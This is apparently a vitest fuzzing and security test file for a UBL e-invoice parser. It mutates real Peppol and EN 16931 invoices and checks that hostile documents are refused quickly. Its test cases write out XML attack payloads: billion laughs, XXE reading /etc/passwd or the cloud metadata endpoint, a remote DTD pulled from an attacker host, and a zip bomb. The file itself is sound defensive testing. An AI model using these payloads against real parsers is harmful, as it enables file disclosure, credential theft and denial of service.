// Fuzzing parseUbl (and validateUbl on what it accepts) with mutations of the real Peppol and
// EN 16931 examples, read from shared/fixtures at test time. FUZZ_RUNS cases (10,000 by default,
// 100,000 under `pnpm fuzz`); FUZZ_SEED replays a run. See docs/security.md for the results.
import { FactError } from '@fact/core';
import {
  BYTE_MUTATORS,
  FOREIGN_HEADERS,
  XML_MUTATORS,
  billionLaughs,
  deepNesting,
  externalEntity,
  fuzzParser,
  fuzzRuns,
  fuzzSeed,
  mutatedSeeds,
  randomInputs,
  readSeeds,
  watchFileWrites,
  zipBomb,
  type FuzzCase,
} from '@fact/fuzz-tools';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { UblParseError, parseUbl, validateUbl, type UblErrorCode } from '@fact/ubl';

// Time limits are CPU budgets: wall time on a shared CI machine counts the suites beside this one.
const cpuNow = () => {
  const used = process.cpuUsage();
  return (used.user + used.system) / 1000;
};

const FIXTURES = new URL('../../../../shared/fixtures/', import.meta.url);
const seeds = [...readSeeds(new URL('peppol/', FIXTURES), /\.xml$/), ...readSeeds(new URL('en16931/', FIXTURES), /\.xml$/)];
const foreign = [...readSeeds(new URL('camt053/', FIXTURES), /\.xml$/), ...readSeeds(new URL('coda/', FIXTURES))];
const INVOICE_NS = ' xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"';
const RUNS = fuzzRuns();

const writes = watchFileWrites();
afterAll(() => writes.restore());

/** Mostly XML-aware mutations of real invoices, then byte-level ones, splices with bank files, noise. */
const cases: fc.Arbitrary<FuzzCase> = fc.oneof(
  { weight: 5, arbitrary: mutatedSeeds(seeds, XML_MUTATORS) },
  { weight: 3, arbitrary: mutatedSeeds(seeds, BYTE_MUTATORS) },
  { weight: 1, arbitrary: mutatedSeeds([...seeds, ...foreign], [...BYTE_MUTATORS, ...XML_MUTATORS]) },
  { weight: 1, arbitrary: randomInputs(2048) },
);

function parseAndValidate(bytes: Uint8Array) {
  const doc = parseUbl(bytes);
  return { doc, validation: validateUbl(doc) };
}

function refusal(input: string | Uint8Array, options?: { maxBytes?: number }): { error: UblParseError; ms: number } {
  const started = cpuNow();
  try {
    parseUbl(input, options);
  } catch (e) {
    const ms = cpuNow() - started;
    if (e instanceof UblParseError) return { error: e, ms };
    throw e;
  }
  throw new Error('parseUbl accepted a hostile document');
}

describe('parseUbl under fuzzing', () => {
  it('every real fixture still parses (the seeds are valid inputs)', () => {
    for (const s of seeds) expect(() => parseUbl(s.bytes), s.name).not.toThrow();
  });

  it(`answers ${RUNS} mutated documents with a document or a UblParseError, each within a second, writing nothing`, { timeout: 600_000 }, () => {
    const { run, stats } = fuzzParser({
      name: 'ubl',
      parse: parseAndValidate,
      allowed: [UblParseError, FactError],
      writes,
      check: ({ doc, validation }) => {
        expect(['Invoice', 'CreditNote']).toContain(doc.kind);
        for (const f of validation.findings) expect(f.rule).toMatch(/\S/);
      },
    });
    fc.assert(fc.property(cases, run), { numRuns: RUNS, seed: fuzzSeed(), endOnFailure: true });
    const summary = stats.summary();
    console.log(stats.report());
    expect(summary.cases).toBe(RUNS);
    expect(summary.maxMs).toBeLessThan(1000);
    expect(summary.outcomes.UNEXPECTED).toBeUndefined();
    // The mutations must reach past the front door: some cases parse, some are refused deeper in.
    expect(summary.outcomes.ok ?? 0).toBeGreaterThan(RUNS / 20);
    expect(summary.outcomes['UblParseError:UBL_INVALID_VALUE'] ?? 0).toBeGreaterThan(0);
  });
});

describe('parseUbl refuses hostile documents quickly', () => {
  const cases: [string, string | Uint8Array, UblErrorCode][] = [
    ['billion laughs (10^9 expansions)', billionLaughs('Invoice', 9, INVOICE_NS), 'UBL_UNSAFE_XML'],
    ['XXE reading /etc/passwd', externalEntity('Invoice', 'file:///etc/passwd', INVOICE_NS), 'UBL_UNSAFE_XML'],
    ['XXE to the cloud metadata endpoint', externalEntity('Invoice', 'http://169.254.169.254/latest/meta-data/', INVOICE_NS), 'UBL_UNSAFE_XML'],
    ['a parameter entity pulling a remote DTD', `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://attacker.invalid/e.dtd"> %p;]><Invoice${INVOICE_NS}/>`, 'UBL_UNSAFE_XML'],
    ['an undeclared entity reference', `<Invoice${INVOICE_NS}><cbc:ID xmlns:cbc="urn:x">&xxe;</cbc:ID></Invoice>`, 'UBL_UNSAFE_XML'],
    ['100,000 nested elements', deepNesting('Invoice', 100_000, INVOICE_NS), 'UBL_MALFORMED'],
    ['a ZIP bomb (100 MiB inflated) uploaded as XML', zipBomb('invoice.xml', 100 * 1024 * 1024), 'UBL_MALFORMED'],
    ['a PDF', FOREIGN_HEADERS.pdf!, 'UBL_MALFORMED'],
    ['a PNG', FOREIGN_HEADERS.png!, 'UBL_MALFORMED'],
    ['gzip bytes', FOREIGN_HEADERS.gzip!, 'UBL_MALFORMED'],
    ['an HTML page with a script', FOREIGN_HEADERS.html!, 'UBL_UNSAFE_XML'],
    ['JSON', FOREIGN_HEADERS.json!, 'UBL_MALFORMED'],
    ['a CODA bank file', foreign.find((s) => s.name.startsWith('coda/'))!.bytes, 'UBL_MALFORMED'],
    ['a camt.053 statement (well-formed, not UBL)', foreign.find((s) => s.name.startsWith('camt053/'))!.bytes, 'UBL_NOT_UBL'],
  ];

  it.each(cases)('%s', (_name, input, code) => {
    const { error, ms } = refusal(input);
    expect(error.code).toBe(code);
    expect(ms).toBeLessThan(1000);
  });

  it('refuses a document over the size limit before reading it (21 MiB against the 20 MiB default)', () => {
    const big = new Uint8Array(21 * 1024 * 1024).fill(0x20);
    const { error, ms } = refusal(big);
    expect(error.code).toBe('UBL_TOO_LARGE');
    expect(ms).toBeLessThan(100);
  });

  it('reads a real invoice with a 1 MiB attribute value within a second, or refuses it', () => {
    const text = Buffer.from(seeds[0]!.bytes).toString('utf8').replace(/<cbc:ID>/, `<cbc:ID x="${'A'.repeat(1024 * 1024)}">`);
    const started = cpuNow();
    try {
      parseUbl(text);
    } catch (e) {
      expect(e).toBeInstanceOf(UblParseError);
    }
    expect(cpuNow() - started).toBeLessThan(1000);
  });

  it('reads a 5 MiB invoice (a real one padded with 11,000 notes) within a second', () => {
    const text = Buffer.from(seeds[0]!.bytes).toString('utf8');
    const padded = text.replace(/(<cbc:DueDate>)/, `${'<cbc:Note>Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat. Duis aute irure dolor in reprehenderit in voluptate velit esse cillum dolore eu fugiat nulla pariatur. Excepteur sint occaecat cupidatat non proident, sunt in culpa qui officia deserunt mollit anim id est laborum. Lorem ipsum dolor sit amet.</cbc:Note>'.repeat(11_000)}$1`);
    expect(padded.length).toBeGreaterThan(5_000_000);
    const started = cpuNow();
    try {
      parseUbl(padded);
    } catch (e) {
      expect(e).toBeInstanceOf(UblParseError);
    }
    const ms = cpuNow() - started;
    console.log(`[hostile ubl] 5 MiB invoice answered in ${ms.toFixed(0)} ms`);
    expect(ms).toBeLessThan(1000);
  });
});
